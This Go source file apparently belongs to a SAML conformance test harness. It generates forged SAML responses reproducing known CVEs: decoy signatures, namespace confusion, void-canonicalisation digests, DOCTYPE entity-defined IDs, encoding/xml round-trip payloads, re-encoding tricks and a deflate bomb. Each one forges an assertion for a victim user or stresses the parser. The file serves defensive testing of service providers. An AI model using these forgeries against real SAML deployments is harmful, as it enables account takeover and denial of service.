package mockidp

import (
	"bytes"
	"compress/flate"
	"crypto/sha256"
	"encoding/base64"
	"errors"
	"fmt"
	"io"
	"regexp"
	"slices"
	"strings"
	"sync"
	"unicode/utf16"

	"github.com/beevik/etree"
	dsig "github.com/russellhaering/goxmldsig"
)

// The remaining signature and parser lines of catalogue §5.3 and §5.6:
// S19 (a signed error Response with a decoy signature), S26 (namespace
// confusion), S27 (void canonicalisation), S28 (entity-defined IDs), S33
// (encoding/xml round-trip payloads), X05 (encodings) and X08 (a deflate
// bomb).

// ParseCatalogue returns the cases of this file in catalogue order, built
// from p: S19, S26 (three shapes), S27, S28, S33 (three shapes), X05 (three
// shapes), X08.
func ParseCatalogue(p AttackParams) []Attack {
	v := p.Victim
	out := []Attack{ParseErrorResponseDecoy(v)}
	for _, s := range ParseNamespaceShapes {
		out = append(out, ParseNamespaceConfusion(v, s))
	}
	out = append(out, ParseVoidCanonicalisation(v), ParseEntityDefinedID(v))
	for _, s := range ParseRoundTripShapes {
		out = append(out, ParseRoundTrip(v, s))
	}
	for _, s := range ParseEncodingShapes {
		out = append(out, ParseEncoding(s))
	}
	return append(out, ParseDeflateBomb(ParseBombSize))
}

// parseErrorSig is the path of the error Response's genuine signature
// (S19), the first of the two.
const parseErrorSig = "/samlp:Response/ds:Signature[1]"

// ParseErrorResponseDecoy is S19 (OneUptime issue #2981): the IdP signs an
// error Response (StatusCode Requester, no Assertion, as SAML Profiles
// §4.1.4.2 requires of a failed login; Keycloak, PingFederate and ADFS
// sign them), which an attacker can obtain by failing a login. A second,
// decoy ds:Signature follows the genuine one: a copy of its SignedInfo and
// SignatureValue and a ds:Object holding a forged Assertion for the victim.
// A verifier whose enveloped-signature transform drops every ds:Signature
// still finds the Response signature valid; an SP that then takes the
// first Assertion anywhere in the document logs in as the victim. The
// assertion the IdP built is set aside while the error Response is signed.
func ParseErrorResponseDecoy(v Victim) Attack {
	return Attack{ID: "S19", Title: "a signed error Response, a decoy ds:Signature whose ds:Object wraps a forged Assertion",
		References: []string{"OneUptime issue #2981", "OneUptime PR #2985", "SAML Profiles 4.1.4.2"}, Oracle: OracleRejects,
		StillVerifies: []SignedPart{{Name: "the signed error Response", Element: "/samlp:Response", Signature: parseErrorSig}},
		Mutations: []Mutation{signWith(SignResponse),
			{Name: "status-requester", Stage: BeforeSigning, Spec: func(s *ResponseSpec) {
				s.StatusCode, s.StatusMessage = StatusRequester, "authentication failed"
			}},
			{Name: "set-assertion-aside", Stage: BeforeSigning, Tree: func(doc *etree.Document) error {
				resp, as, err := responseParts(doc)
				if err != nil {
					return err
				}
				resp.RemoveChild(as)
				doc.AddChild(as) // after the root: signing sees the Response alone
				return nil
			}},
			afterSigning("decoy-signature", func(doc *etree.Document) error {
				resp, err := response(doc)
				if err != nil {
					return err
				}
				as := parseSetAside(doc)
				if as == nil {
					return errors.New("no assertion set aside")
				}
				doc.RemoveChild(as)
				if err := impersonate(as, v); err != nil {
					return err
				}
				sig, err := ownSignature(resp)
				if err != nil {
					return err
				}
				decoy := parseSignatureCopy(sig)
				decoy.CreateElement(sig.Space + ":Object").AddChild(as)
				resp.InsertChildAt(sig.Index()+1, decoy)
				return nil
			})}}
}

// parseSetAside returns the element after the document's root, where S19
// keeps the assertion while the error Response is signed.
func parseSetAside(doc *etree.Document) *etree.Element {
	els := doc.ChildElements()
	if len(els) < 2 {
		return nil
	}
	return els[1]
}

// parseSignatureCopy copies sig's SignedInfo, SignatureValue and KeyInfo
// into a new element of the same name.
func parseSignatureCopy(sig *etree.Element) *etree.Element {
	out := etree.NewElement(sig.FullTag())
	for _, a := range sig.Attr {
		out.CreateAttr(a.FullKey(), a.Value)
	}
	for _, c := range sig.ChildElements() {
		switch c.Tag {
		case dsig.SignedInfoTag, dsig.SignatureValueTag, dsig.KeyInfoTag:
			out.AddChild(c.Copy())
		}
	}
	return out
}

// The shapes of S26.
const (
	// ParseNamespaceAttlist: a DOCTYPE ATTLIST gives an unprefixed
	// Signature the XML-DSig namespace as a #FIXED default xmlns, which a
	// DTD-aware parser applies and a DTD-less one does not.
	ParseNamespaceAttlist = "attlist"
	// ParseNamespaceStatusDetail: an unprefixed Signature declaring the
	// XML-DSig namespace as its default, in samlp:StatusDetail.
	ParseNamespaceStatusDetail = "statusdetail"
	// ParseNamespaceReboundDS: the assertion's own ds:Signature re-binds
	// the ds prefix to another namespace.
	ParseNamespaceReboundDS = "rebound-ds"
)

// ParseNamespaceShapes are the shapes of S26, in the order of the
// catalogue's line.
var ParseNamespaceShapes = []string{ParseNamespaceAttlist, ParseNamespaceStatusDetail, ParseNamespaceReboundDS}

// parseReboundNS is the namespace S26 rebound-ds binds ds to.
const parseReboundNS = "urn:provcheck:not-xmldsig"

// parseStatusDetailSig is the path of the genuine signature copy that S26
// and S27 put in samlp:StatusDetail (any prefix).
const parseStatusDetailSig = "/samlp:Response/samlp:Status/samlp:StatusDetail/Signature"

// ParseNamespaceConfusion is S26 (CVE-2025-25292 and its incomplete fix
// CVE-2025-66567, ruby-saml; SAMLRaider CVE_2025_25292.java): the signed
// Assertion is forged for the victim after signing and its own ds:Signature
// gets a DigestValue that matches the forgery, while a copy of the genuine
// SignedInfo and SignatureValue goes into samlp:StatusDetail, earlier in
// document order. Namespace tricks decide which parser sees which
// signature, so that the SignatureValue is checked over the genuine
// SignedInfo and the digest over the forged one. shape is
// ParseNamespaceAttlist (the StatusDetail copy is an unprefixed Signature
// in no namespace, and a DOCTYPE ATTLIST declares xmlns #FIXED to
// XML-DSig for it), ParseNamespaceStatusDetail (the copy is an unprefixed
// Signature with xmlns="…xmldsig#") or ParseNamespaceReboundDS (the copy is
// a plain ds:Signature; the assertion's forged ds:Signature re-binds ds to
// a namespace that is not XML-DSig, so a reader that matches the qualified
// name "ds:Signature" sees a signature a namespace-aware one does not).
func ParseNamespaceConfusion(v Victim, shape string) Attack {
	a := Attack{ID: "S26", Variant: shape, Title: "namespace confusion (" + shape + "): the genuine SignedInfo in StatusDetail, a forged digest on the Assertion",
		References: []string{"CVE-2025-25292", "CVE-2025-66567", "SAMLRaider CVE_2025_25292.java"}, Oracle: OracleRejects,
		StillVerifies: []SignedPart{{Name: "the genuine SignedInfo copied into StatusDetail", Signature: parseStatusDetailSig, SignedInfoOnly: true}},
	}
	split := afterSigning("split-signature-"+shape, func(doc *etree.Document) error {
		return parseSplitSignature(doc, v, false, func(resp, own, genuine *etree.Element) error {
			switch shape {
			case ParseNamespaceAttlist:
				genuine.Space = ""
				genuine.RemoveAttr("xmlns:" + own.Space)
				resp.CreateAttr("xmlns:"+own.Space, nsDSig) // for the copied children
			case ParseNamespaceStatusDetail:
				genuine.Space = ""
				genuine.RemoveAttr("xmlns:" + own.Space)
				genuine.CreateAttr("xmlns", nsDSig)
				genuine.CreateAttr("xmlns:"+own.Space, nsDSig)
			case ParseNamespaceReboundDS:
				own.CreateAttr("xmlns:"+own.Space, parseReboundNS)
			default:
				return fmt.Errorf("unknown namespace confusion %q (%s)", shape, strings.Join(ParseNamespaceShapes, ", "))
			}
			return nil
		})
	})
	a.Mutations = []Mutation{signWith(SignAssertion), split}
	if shape == ParseNamespaceAttlist {
		a.Mutations = append(a.Mutations, Mutation{Name: "doctype-attlist-xmlns", Stage: RawBytes, Raw: func(b []byte) []byte {
			return withDoctype(b, `<!DOCTYPE samlp:Response [<!ATTLIST Signature xmlns CDATA #FIXED "`+nsDSig+`">]>`)
		}})
	}
	return a
}

// parseSplitSignature forges the signed assertion of doc for v, sets its
// signature's DigestValue to the digest of the forgery (void: to the
// digest of the empty string) and puts a copy of the genuine SignedInfo,
// SignatureValue and KeyInfo, taken before, in a new samlp:StatusDetail;
// place then arranges the namespaces of own (the assertion's signature)
// and genuine (the copy).
func parseSplitSignature(doc *etree.Document, v Victim, void bool, place func(resp, own, genuine *etree.Element) error) error {
	resp, as, sig, err := signedAssertion(doc)
	if err != nil {
		return err
	}
	st := resp.SelectElement("samlp:Status")
	if st == nil {
		return errors.New("no samlp:Status")
	}
	genuine := parseSignatureCopy(sig)
	dv, err := dsChild(sig, dsig.SignedInfoTag, dsig.ReferenceTag, dsig.DigestValueTag)
	if err != nil {
		return err
	}
	forged, err := forgeInPlace(as, v)
	if err != nil {
		return err
	}
	if void {
		as.CreateAttr("xmlns:provcheck", parseVoidNS)
		sum := sha256.Sum256(nil)
		forged = base64.StdEncoding.EncodeToString(sum[:])
	}
	dv.SetText(forged)
	st.CreateElement("samlp:StatusDetail").AddChild(genuine)
	return place(resp, sig, genuine)
}

// parseVoidNS is the namespace URI of S27: U+0080 is a legal XML character
// but not a legal URI one, and libxml2's canonicaliser fails on it.
const parseVoidNS = "http://provcheck.invalid/void\u0080"

// ParseVoidCanonicalisation is S27 (CVE-2025-66568, ruby-saml with
// libxml2; PortSwigger "The Fragile Lock"): the signed Assertion is
// forged for the victim after signing and declares a namespace whose URI
// holds U+0080, which makes libxml2's canonicalisation fail; a verifier
// that reads the failure as an empty canonical form computes the digest of
// the empty string, and the assertion's DigestValue is exactly that. The
// genuine SignedInfo and SignatureValue sit in samlp:StatusDetail as a
// plain ds:Signature (the other half of the chain SAMLRaider builds). An
// SP must treat a canonicalisation failure as a refusal.
func ParseVoidCanonicalisation(v Victim) Attack {
	return Attack{ID: "S27", Title: `forged Assertion with a U+0080 namespace URI, its DigestValue the digest of ""`,
		References: []string{"CVE-2025-66568", "PortSwigger, The Fragile Lock", "SAMLRaider CVE_2025_25292.java"}, Oracle: OracleRejects,
		StillVerifies: []SignedPart{{Name: "the genuine SignedInfo copied into StatusDetail", Signature: parseStatusDetailSig, SignedInfoOnly: true}},
		Mutations: []Mutation{signWith(SignAssertion), afterSigning("void-canonicalisation", func(doc *etree.Document) error {
			return parseSplitSignature(doc, v, true, func(*etree.Element, *etree.Element, *etree.Element) error { return nil })
		})}}
}

// Placeholders S28 writes into the tree and turns into entity references
// in the bytes (etree escapes '&').
const (
	parseEntityIDMark = "PROVCHECK-ENTITY-ID-"
	parseBypassMark   = "PROVCHECK-BYPASS-ID-"
)

var parseEntityID = regexp.MustCompile(`ID="` + parseEntityIDMark + `([^"]*)"`)

// ParseEntityDefinedID is S28 (CVE-2025-23369, GitHub Enterprise Server
// with libxml2; SAMLRaider CVE_2025_23369.java): the assertion's
// signature is cloned into the Response after its Issuer with a ds:Object
// holding the pristine signed Assertion, whose ID becomes
// "&provcheckBypassIDUniqueness;<ID>"; the Response's ID becomes the
// entity reference "&provcheckIDViaEntity;", which a DOCTYPE defines as
// the assertion's ID; the Assertion in place is forged for the victim
// (fresh ID, no signature). libxml2's ID table then resolves the reference
// where the attacker wants. Any DOCTYPE must be refused.
func ParseEntityDefinedID(v Victim) Attack {
	return Attack{ID: "S28", Title: "entity-defined Response ID, an ID-uniqueness bypass entity, the signed copy in ds:Object",
		References: []string{"CVE-2025-23369", "SAMLRaider CVE_2025_23369.java"}, Oracle: OracleRejects,
		Mutations: []Mutation{signWith(SignAssertion),
			afterSigning("signed-copy-in-object", func(doc *etree.Document) error {
				resp, as, sig, err := signedAssertion(doc)
				if err != nil {
					return err
				}
				id := as.SelectAttrValue("ID", "")
				clone := sig.Copy()
				as.RemoveChild(sig)
				pristine, err := turnEvil(as, v, true)
				if err != nil {
					return err
				}
				pristine.CreateAttr("ID", parseBypassMark+id)
				clone.CreateElement(sig.Space + ":Object").AddChild(pristine)
				resp.InsertChildAt(schemaPosition(resp), clone)
				resp.CreateAttr("ID", parseEntityIDMark+id)
				return nil
			}),
			{Name: "doctype-entity-ids", Stage: RawBytes, Raw: func(b []byte) []byte {
				m := parseEntityID.FindSubmatch(b)
				if m == nil {
					return b
				}
				decl := `<!DOCTYPE samlp:Response [<!ENTITY provcheckIDViaEntity "` + entityValue(string(m[1])) + `"><!ENTITY provcheckBypassIDUniqueness "&#x50;">]>`
				b = parseEntityID.ReplaceAll(b, []byte(`ID="&provcheckIDViaEntity;"`))
				b = bytes.ReplaceAll(b, []byte(`ID="`+parseBypassMark), []byte(`ID="&provcheckBypassIDUniqueness;`))
				return withDoctype(b, decl)
			}}}}
}

// The shapes of S33.
const (
	// ParseRoundTripElement: an evil Assertion named "::Assertion" (gosaml2
	// TestDecodeDoubleColonInjectionAttackResponse).
	ParseRoundTripElement = "element"
	// ParseRoundTripAttribute: an evil Assertion whose only ID attribute
	// is "a:b:ID", carrying the signed assertion's ID.
	ParseRoundTripAttribute = "attribute"
	// ParseRoundTripDirective: a directive inside the Response whose text
	// is a forged Assertion.
	ParseRoundTripDirective = "directive"
)

// ParseRoundTripShapes are the shapes of S33.
var ParseRoundTripShapes = []string{ParseRoundTripElement, ParseRoundTripAttribute, ParseRoundTripDirective}

// parseMark is the tag S33 gives the evil Assertion in the tree, renamed in
// the bytes.
const parseMark = "provcheckParseMark"

// ParseRoundTrip is S33 (CVE-2020-29509, -29510, -29511 in Go's
// encoding/xml, reached through gosaml2 < 0.6.0 and CVE-2020-15216,
// goxmldsig; CVE-2020-27846, crewjam): markup that changes across an
// encoding/xml decode–encode round trip, with an unsigned forged Assertion
// for the victim before the signed one. shape is ParseRoundTripElement
// (the forged Assertion is named "::Assertion" with the assertion namespace
// as default, gosaml2's TestDecodeDoubleColonInjectionAttackResponse),
// ParseRoundTripAttribute (its ID attribute is "provcheck:x:ID", carrying
// the signed assertion's ID) or ParseRoundTripDirective (the forged
// Assertion is the text of a "<!provcheck …>" directive inside the
// Response). None of them is namespace-well-formed XML; the SP refuses, or
// ignores the unsigned part and logs in as the honest principal.
func ParseRoundTrip(v Victim, shape string) Attack {
	a := Attack{ID: "S33", Variant: shape, Title: "encoding/xml round-trip payload (" + shape + ") with a forged Assertion before the signed one",
		References: []string{"CVE-2020-29509", "CVE-2020-29510", "CVE-2020-29511", "CVE-2020-15216", "CVE-2020-27846",
			"gosaml2 TestDecodeDoubleColonInjectionAttackResponse"},
		// Go's encoding/xml refuses the colon-laden names (so gosaml2 does);
		// it reads the directive as a token and skips it.
		Oracle: OracleRejects,
		Mutations: []Mutation{signWith(SignAssertion),
			afterSigning("forged-"+shape, func(doc *etree.Document) error {
				resp, as, evil, err := forgeAssertion(doc, v, true)
				if err != nil {
					return err
				}
				switch shape {
				case ParseRoundTripElement:
					evil.Space = ""
					evil.CreateAttr("xmlns", nsAssertion)
				case ParseRoundTripAttribute:
					evil.Space = "saml"
					evil.CreateAttr("xmlns:provcheck", nsAssertion)
					evil.CreateAttr(parseMark, as.SelectAttrValue("ID", ""))
					evil.RemoveAttr("ID")
				case ParseRoundTripDirective:
				default:
					return fmt.Errorf("unknown round-trip payload %q (%s)", shape, strings.Join(ParseRoundTripShapes, ", "))
				}
				evil.Tag = parseMark
				if shape == ParseRoundTripAttribute {
					evil.Tag = "Assertion"
				}
				resp.InsertChildAt(as.Index(), evil)
				return nil
			}),
			{Name: "round-trip-" + shape, Stage: RawBytes, Raw: func(b []byte) []byte {
				switch shape {
				case ParseRoundTripElement:
					b = bytes.ReplaceAll(b, []byte("<"+parseMark), []byte("<::Assertion"))
					return bytes.ReplaceAll(b, []byte("</"+parseMark+">"), []byte("</::Assertion>"))
				case ParseRoundTripAttribute:
					return bytes.ReplaceAll(b, []byte(" "+parseMark+`="`), []byte(` provcheck:x:ID="`))
				}
				start := bytes.Index(b, []byte("<saml:"+parseMark))
				end := bytes.Index(b, []byte("</saml:"+parseMark+">"))
				if start < 0 || end < start {
					return b
				}
				end += len("</saml:" + parseMark + ">")
				inner := bytes.ReplaceAll(b[start:end], []byte(parseMark), []byte("Assertion"))
				return splice(b, start, end, "<!provcheck "+string(inner)+">")
			}}}}
	if shape == ParseRoundTripDirective {
		a.Oracle = OracleAcceptsHonest
		a.StillVerifies = []SignedPart{{Name: "the signed Assertion", Element: pathAssertion1, Signature: pathAssertion1Sig}}
	}
	return a
}

// The shapes of X05.
const (
	// ParseEncodingBOM: a UTF-8 byte-order mark before the declaration.
	ParseEncodingBOM = "utf8-bom"
	// ParseEncodingUTF16: the document in UTF-16LE with a byte-order mark,
	// declared UTF-16.
	ParseEncodingUTF16 = "utf16"
	// ParseEncodingLatin1: declared ISO-8859-1, the bytes UTF-8 with a
	// non-ASCII character in a signed attribute.
	ParseEncodingLatin1 = "declared-latin1"
)

// ParseEncodingShapes are the shapes of X05.
var ParseEncodingShapes = []string{ParseEncodingBOM, ParseEncodingUTF16, ParseEncodingLatin1}

// ParseEncodingProbe is the attribute X05's declared-latin1 shape signs:
// its value "é" reads "Ã©" to a parser that believes the declaration.
const ParseEncodingProbe = "urn:provcheck:parse:encoding-probe"

// ParseEncoding is X05 (the parser-differential class): the signed
// baseline, re-encoded after signing. shape is ParseEncodingBOM (a UTF-8
// byte-order mark first), ParseEncodingUTF16 (UTF-16LE with a byte-order
// mark, declared encoding="UTF-16") or ParseEncodingLatin1 (declared
// encoding="ISO-8859-1" over UTF-8 bytes, with a signed attribute holding
// "é"). The SP either refuses, or reads the same document in the signature
// and the data path: the honest principal.
func ParseEncoding(shape string) Attack {
	muts := []Mutation{signWith(SignAssertion)}
	if shape == ParseEncodingLatin1 {
		muts = append(muts, specEdit("non-ascii-probe", func(s *ResponseSpec, _ *AssertionSpec) { s.AddAttribute(ParseEncodingProbe, "é") }))
	}
	muts = append(muts, Mutation{Name: "encoding-" + shape, Stage: RawBytes, Raw: func(b []byte) []byte {
		return parseReencode(b, shape)
	}})
	return Attack{ID: "X05", Variant: shape, Title: "signed response re-encoded: " + shape,
		References: []string{"XML 1.0 §4.3.3 and Appendix F (encoding declaration and detection)", "parser-differential class"},
		Oracle:     parseEncodingOracle(shape), Mutations: muts}
}

// parseEncodingOracle is what VerifyBenign does with a shape: a UTF-8 BOM
// reads as the same document; UTF-16 is not read; the Latin-1 declaration
// is refused by encoding/xml without a charset reader (gosaml2's
// DecodeUnverifiedBaseResponse), while etree, under gosaml2's signature
// path, reads every declared encoding as UTF-8.
func parseEncodingOracle(shape string) Oracle {
	if shape == ParseEncodingBOM {
		return OracleAcceptsHonest
	}
	return OracleRejects
}

// parseReencode re-encodes a serialised response per shape (unchanged for
// an unknown shape, which fails the build).
func parseReencode(b []byte, shape string) []byte {
	decl := xmlDecl.Find(b)
	body := b[len(decl):]
	switch shape {
	case ParseEncodingBOM:
		return append([]byte("\xEF\xBB\xBF"), b...)
	case ParseEncodingLatin1:
		return append([]byte(`<?xml version="1.0" encoding="ISO-8859-1"?>`+"\n"), body...)
	case ParseEncodingUTF16:
		text := `<?xml version="1.0" encoding="UTF-16"?>` + "\n" + string(body)
		out := []byte{0xFF, 0xFE}
		for _, u := range utf16.Encode([]rune(text)) {
			out = append(out, byte(u), byte(u>>8))
		}
		return out
	}
	return b
}

// ParseBombSize is X08's inflated size: 32 MiB, six times gosaml2's 5 MiB
// bound and far beyond any real response, small enough that an SP that
// inflates it all is slowed, not brought down.
const ParseBombSize = 32 << 20

// parseBombMax bounds what ParseDeflateBomb inflates to.
const parseBombMax = 64 << 20

// ParseDeflateBomb is X08 (CVE-2023-26483, gosaml2 < 0.9.0; CVE-2023-28119,
// crewjam < 0.4.13; CVE-2025-25293, ruby-saml): the signed baseline,
// followed by whitespace up to size bytes (clamped to 1 MiB..64 MiB), raw
// DEFLATE compressed as the HTTP-Redirect binding encodes (SAML Bindings
// §3.4.4.1). The HTTP-POST binding carries no DEFLATE, but many SPs
// (gosaml2 among them) inflate a SAMLResponse that does not parse as XML.
// Some 32 KiB on the wire inflate to size: an SP that refuses it, or
// inflates under a bound, passes; one that inflates it all reads a
// genuine signed response and logs the honest principal in, which shows
// the missing bound.
func ParseDeflateBomb(size int) Attack {
	size = max(1<<20, min(size, parseBombMax))
	return Attack{ID: "X08", Title: fmt.Sprintf("deflate bomb: the signed response raw-DEFLATE compressed, inflating to %d MiB", size>>20),
		References: []string{"CVE-2023-26483", "CVE-2023-28119", "CVE-2025-25293", "SAML Bindings 3.4.4.1 and 3.5.4"}, Oracle: OracleRejects,
		Mutations: []Mutation{signWith(SignAssertion), {Name: "deflate-bomb", Stage: RawBytes, Raw: func(b []byte) []byte {
			out, err := parseDeflate(b, size)
			if err != nil {
				return b
			}
			return out
		}}}}
}

// parseDeflate compresses b followed by whitespace up to size bytes with
// raw DEFLATE: b and the padding's odd end, ending in a sync flush, then
// the blocks of the padding's whole 64 KiB chunks, compressed once per
// count (parsePadStream). A DEFLATE stream may be cut into such
// independently compressed runs, so the generator compresses 32 MiB once,
// not per case.
func parseDeflate(b []byte, size int) ([]byte, error) {
	const chunk = 64 << 10
	padding := max(0, size-len(b))
	pad, err := parsePadStream(padding / chunk * chunk)
	if err != nil {
		return nil, err
	}
	var buf bytes.Buffer
	w, err := flate.NewWriter(&buf, flate.BestCompression)
	if err != nil {
		return nil, fmt.Errorf("deflate: %w", err)
	}
	if _, err := w.Write(append(slices.Clip(b), bytes.Repeat([]byte{' '}, padding%chunk)...)); err != nil {
		return nil, fmt.Errorf("deflate: %w", err)
	}
	if err := w.Flush(); err != nil {
		return nil, fmt.Errorf("deflate: %w", err)
	}
	buf.Write(pad)
	return buf.Bytes(), nil
}

// parsePadStreams caches parsePadStream by length.
var parsePadStreams sync.Map

// parsePadStream is the raw DEFLATE stream, its last block final, of n
// spaces (an empty final block for 0).
func parsePadStream(n int) ([]byte, error) {
	if v, ok := parsePadStreams.Load(n); ok {
		return v.([]byte), nil
	}
	var buf bytes.Buffer
	w, err := flate.NewWriter(&buf, flate.BestCompression)
	if err != nil {
		return nil, fmt.Errorf("deflate: %w", err)
	}
	pad := bytes.Repeat([]byte{' '}, 64<<10)
	for done := 0; done < n; done += len(pad) {
		if _, err := w.Write(pad[:min(len(pad), n-done)]); err != nil {
			return nil, fmt.Errorf("deflate: %w", err)
		}
	}
	if err := w.Close(); err != nil {
		return nil, fmt.Errorf("deflate: %w", err)
	}
	v, _ := parsePadStreams.LoadOrStore(n, buf.Bytes())
	return v.([]byte), nil
}

// ParseInflatedHead inflates at most limit bytes of a raw DEFLATE stream
// (X08's payload) and says whether there was more, for evidence; it never
// inflates the whole bomb.
func ParseInflatedHead(b []byte, limit int) (head []byte, more bool, err error) {
	r := flate.NewReader(bytes.NewReader(b))
	defer r.Close()
	buf := make([]byte, limit+1)
	n, err := io.ReadFull(r, buf)
	if err != nil && !errors.Is(err, io.ErrUnexpectedEOF) && !errors.Is(err, io.EOF) {
		return nil, false, fmt.Errorf("inflate: %w", err)
	}
	if n > limit {
		return buf[:limit], true, nil
	}
	return buf[:n], false, nil
}
